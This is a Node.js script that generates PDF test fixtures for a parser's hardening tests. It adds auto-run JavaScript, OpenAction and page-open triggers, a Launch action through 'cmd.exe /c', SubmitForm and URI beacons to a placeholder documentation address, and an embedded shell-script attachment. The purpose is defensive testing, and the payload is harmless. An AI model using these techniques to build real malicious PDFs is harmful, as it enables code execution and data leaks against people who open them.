#!/usr/bin/env node
/**
 * make-hostile.mjs — hostile and very large PDFs for Crosswalk's hardening tests.
 *
 *   node scripts/make-hostile.mjs --actions --out FILE [--base act.pdf] [--uri URL] [--launch PATH]
 *   node scripts/make-hostile.mjs --large PAGES [--lines N] --out FILE
 *
 * `--actions` writes the base PDF (by default fixtures/act.pdf) with everything a PDF can ask a
 * reader to do on its own added to it, each pointed at `--uri` (a web address) or `--launch` (a
 * program): document-level JavaScript (the /Names /JavaScript tree, run on open by Acrobat), an
 * /OpenAction and a document-close action (/AA /WC) running it, a page-open action (/AA /O), a
 * Launch action (a link annotation starting a program, with a Windows variant), URI link
 * annotations, a SubmitForm action, and an embedded file (a shell script, in /EmbeddedFiles and
 * as a FileAttachment annotation). The printed text is the base's, so a parser that ignores all of
 * it (as Crosswalk must) reads the same clauses as from the base.
 *
 * The committed fixtures/hostile/actions.pdf is made by scripts/make-fixtures.mjs through
 * `hostilePdf()` below, pointed at TEST-NET-2 addresses (198.51.100.0/24, RFC 5737: never routed).
 * test/cli/hostile.test.ts makes its own copy pointed at a local server and a marker-writing
 * script, to see that nothing is ever fetched or launched.
 *
 * `--large` writes a plain numbered document of PAGES pages (an "Article N" heading and 30 lines a
 * page, about 1.2 KB a page): the 1,000+-page case is made at test time, not committed.
 */
import { writeFileSync, readFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { PDFDocument, PDFHexString, PDFName, PDFString, StandardFonts } from 'pdf-lib';

const HERE = dirname(fileURLToPath(import.meta.url));
const REPO = resolve(HERE, '..');

/** Where the committed fixture points: documentation addresses, never routed (RFC 5737). */
export const HOSTILE_DEFAULTS = {
  uri: 'http://198.51.100.7/crosswalk-uri-beacon',
  launch: '/tmp/crosswalk-hostile-launch.sh',
};

/** The JavaScript a reader that runs document scripts would run. Every line is a thing Crosswalk must never do. */
function script(uri) {
  return [
    'globalThis.crosswalkHostileScriptRan = true;',
    `app.launchURL(${JSON.stringify(`${uri}?via=javascript`)}, true);`,
    'this.exportDataObject({ cName: "run-me.sh", nLaunch: 2 });',
    `this.submitForm(${JSON.stringify(`${uri}?via=submit`)});`,
    'app.alert("This PDF ran JavaScript.");',
  ].join('\n');
}

/** A shell script that leaves a marker next to itself: what the embedded file and Launch action would run. */
function payload(launch) {
  return `#!/bin/sh\n# Crosswalk hostile fixture: if this ran, a PDF reader executed an attachment.\ntouch "${launch}.ran"\n`;
}

/**
 * The base PDF's bytes with JavaScript, Launch, URI, SubmitForm actions and an embedded file added.
 * Deterministic: same input, same bytes (no dates or ids are added).
 * @param {Uint8Array} baseBytes
 * @param {{ uri?: string, launch?: string }} [targets]
 * @returns {Promise<Uint8Array>}
 */
export async function hostilePdf(baseBytes, targets = {}) {
  const uri = targets.uri ?? HOSTILE_DEFAULTS.uri;
  const launch = targets.launch ?? HOSTILE_DEFAULTS.launch;
  const doc = await PDFDocument.load(baseBytes, { updateMetadata: false });
  const ctx = doc.context;
  const js = ctx.register(ctx.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(script(uri)) }));

  const body = payload(launch);
  const embedded = ctx.register(
    ctx.stream(body, {
      Type: 'EmbeddedFile',
      Subtype: 'application/x-sh',
      Params: { Size: body.length },
    }),
  );
  const fileSpec = ctx.register(
    ctx.obj({
      Type: 'Filespec',
      F: PDFString.of('run-me.sh'),
      UF: PDFHexString.fromText('run-me.sh'),
      Desc: PDFString.of('A shell script: a reader must never run it.'),
      EF: { F: embedded },
    }),
  );

  doc.catalog.set(
    PDFName.of('Names'),
    ctx.obj({
      JavaScript: { Names: [PDFString.of('crosswalk-hostile'), js] },
      EmbeddedFiles: { Names: [PDFString.of('run-me.sh'), fileSpec] },
    }),
  );
  doc.catalog.set(PDFName.of('OpenAction'), js);
  doc.catalog.set(PDFName.of('AA'), ctx.obj({ WC: js, WP: js }));

  const page = doc.getPage(0);
  const { height } = page.getSize();
  const rect = (n) => [20 + n * 30, height - 30, 45 + n * 30, height - 10];
  const annots = [
    { Subtype: 'Link', A: { S: 'URI', URI: PDFString.of(uri) } },
    { Subtype: 'Link', A: { S: 'URI', URI: PDFString.of(`${uri}?via=second-link`) } },
    {
      Subtype: 'Link',
      A: {
        S: 'Launch',
        F: { Type: 'Filespec', F: PDFString.of(launch) },
        Win: { F: PDFString.of('cmd.exe'), P: PDFString.of(`/c ${launch}`), O: PDFString.of('open') },
        NewWindow: true,
      },
    },
    {
      Subtype: 'Link',
      A: { S: 'SubmitForm', F: { FS: 'URL', F: PDFString.of(`${uri}?via=submit-action`) }, Flags: 4 },
    },
    { Subtype: 'FileAttachment', FS: fileSpec, Name: 'PushPin', Contents: PDFString.of('run-me.sh') },
  ].map((annot, n) =>
    ctx.register(ctx.obj({ Type: 'Annot', Rect: rect(n), Border: [0, 0, 0], F: 4, P: page.ref, ...annot })),
  );
  page.node.set(PDFName.of('Annots'), ctx.obj(annots));
  page.node.set(PDFName.of('AA'), ctx.obj({ O: js }));

  return doc.save({ useObjectStreams: false, addDefaultPage: false, updateFieldAppearances: false });
}

/**
 * A plain numbered document of `pages` pages, "Article N" and `lines` numbered lines on each: big
 * enough to watch progress, cancel and measure memory on. `lines: 0` gives blank pages (a quick
 * way to a document over the page limit).
 * @param {number} pages
 * @param {{ lines?: number }} [options]
 * @returns {Promise<Uint8Array>}
 */
export async function largePdf(pages, { lines = 30 } = {}) {
  const doc = await PDFDocument.create({ updateMetadata: false });
  const font = await doc.embedFont(StandardFonts.Helvetica);
  for (let n = 1; n <= pages; n += 1) {
    const page = doc.addPage([595, 842]);
    if (lines === 0) continue;
    page.drawText(`Article ${n}`, { x: 270, y: 780, size: 11, font });
    for (let line = 0; line < lines; line += 1) {
      page.drawText(`${line + 1}. Line ${line + 1} of the text of Article ${n}, written to be read.`, {
        x: 72,
        y: 750 - line * 22,
        size: 10,
        font,
      });
    }
  }
  return doc.save({ useObjectStreams: false, addDefaultPage: false });
}

function value(args, name) {
  const at = args.indexOf(name);
  if (at < 0) return undefined;
  const next = args[at + 1];
  if (next === undefined || next.startsWith('--')) throw new Error(`${name} needs a value`);
  return next;
}

async function main() {
  const args = process.argv.slice(2);
  const out = value(args, '--out');
  if (out === undefined) throw new Error('--out FILE is required');
  const large = value(args, '--large');
  let bytes;
  if (large !== undefined) {
    const pages = Number.parseInt(large, 10);
    if (!Number.isInteger(pages) || pages < 1) throw new Error('--large needs a page count');
    const lines = Number.parseInt(value(args, '--lines') ?? '30', 10);
    if (!Number.isInteger(lines) || lines < 0 || lines > 30) throw new Error('--lines needs 0 to 30');
    bytes = await largePdf(pages, { lines });
  } else if (args.includes('--actions')) {
    const base = readFileSync(resolve(value(args, '--base') ?? join(REPO, 'fixtures', 'act.pdf')));
    const uri = value(args, '--uri');
    const launch = value(args, '--launch');
    bytes = await hostilePdf(base, {
      ...(uri === undefined ? {} : { uri }),
      ...(launch === undefined ? {} : { launch }),
    });
  } else throw new Error('give --actions or --large PAGES');
  writeFileSync(resolve(out), bytes);
}

if (process.argv[1] !== undefined && resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  main().catch((error) => {
    console.error(`make-hostile: ${error instanceof Error ? error.message : String(error)}`);
    process.exit(1);
  });
}
